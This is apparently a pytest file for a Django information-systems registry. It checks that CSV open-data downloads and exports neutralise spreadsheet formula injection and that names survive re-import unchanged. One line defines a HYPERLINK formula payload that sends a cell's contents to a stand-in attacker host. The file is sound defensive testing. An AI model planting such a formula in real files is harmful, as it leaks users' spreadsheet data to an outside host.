"""The probe's case: a system named with a formula by its owner is written guarded in every
download, also the anonymous open data, and imports back with its name unchanged."""

import csv
import io

import pytest
from django.test import Client

from shireito.registry.models import InformationSystem
from shireito.registry.services import system_update
from shireito.registry.transfer import export_csv, import_bytes

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_the_anonymous_open_data_csv_writes_a_formula_name_as_text(systems):
    # given a published system whose owner named it with a formula
    system_update(actor=None, system=systems["mhlw-app"], name=EVIL)

    # when anyone downloads the open data without signing in
    response = Client().get("/open-data/systems.csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")

    # then the name is there, but as text a spreadsheet does not run
    assert response.status_code == 200
    assert "'" + EVIL in _cells(text)
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in _cells(text))


def test_a_formula_name_round_trips_through_the_systems_export(systems):
    # given systems named with texts a spreadsheet would run, and one with a leading quote
    names = {"mhlw-app": EVIL, "meti-app": "'=already quoted", "da-portal": "-1+2"}
    for code, name in names.items():
        system_update(actor=None, system=systems[code], name=name)
    text = "".join(export_csv(InformationSystem.objects.order_by("code")))
    assert EVIL not in _cells(text)

    # when the export is changed back and imported again
    InformationSystem.objects.filter(code__in=names).update(name="changed")
    result = import_bytes(text.encode(), actor=None, dry_run=False)

    # then every name is as it was
    assert result.ok, result.problems
    for code, name in names.items():
        assert InformationSystem.objects.get(code=code).name == name
